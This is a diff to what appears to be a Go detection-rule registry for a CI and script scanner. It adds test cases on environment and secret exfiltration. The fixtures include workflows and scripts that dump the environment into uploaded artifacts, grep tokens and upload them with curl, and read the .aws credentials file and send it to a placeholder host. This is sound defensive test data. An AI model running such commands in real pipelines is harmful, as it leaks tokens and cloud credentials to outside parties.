@@ -204,6 +204,9 @@ var registry = []Rule{
 			// grep keeping the variables of one prefix that names no credential: build info, not secrets.
 			{".gitlab-ci.yml", "release:\n  script:\n    - printenv | grep -E '^CI_COMMIT' > build-info.env\n    - curl --fail --upload-file build-info.env \"$RELEASE_URL/build-info.env\"", 0, true},
 			{"x.sh", "env | grep TOKEN > t.txt\ncurl -T t.txt https://x.invalid/u", 2, false},
+			// An artifact whose folder holds a file the environment was written into.
+			{".github/workflows/w.yml", "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: printenv -0 | base64 -w0 > diag/env.b64\n      - uses: actions/upload-artifact@v4\n        with:\n          name: diag\n          path: diag/", 10, false},
+			{".github/workflows/w.yml", "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: go test ./... > diag/test.log\n      - uses: actions/upload-artifact@v4\n        with:\n          name: diag\n          path: diag/", 0, true},
 			// PowerShell: a credential file read with Get-Content, written with Out-File, sent by curl.exe.
 			{"tools/ci.ps1", "Get-Content $env:USERPROFILE\\.aws\\credentials | Out-File c.txt\ncurl.exe -T c.txt https://x.invalid/u", 2, false},
 			{"tools/ci.ps1", "Get-Content build.log | Out-File -FilePath out.txt\ncurl.exe -T out.txt https://logs.x.invalid/u", 0, true},
@@ -238,6 +241,7 @@ var registry = []Rule{
 		}},
 	{"env-exfiltration", KindCredential, High, "dumps the environment (secrets included)", WhySecrets, []Case{
 		{"x.sh", "printenv > /tmp/e", 0, false},
+		{"x.sh", "printenv -0 | gzip -9 > /tmp/e.gz", 0, false},
 		{"x.sh", "env | sort", 0, true},
 	}},
 	{"reverse-shell", KindNetwork, High, "opens a raw connection or a reverse shell",
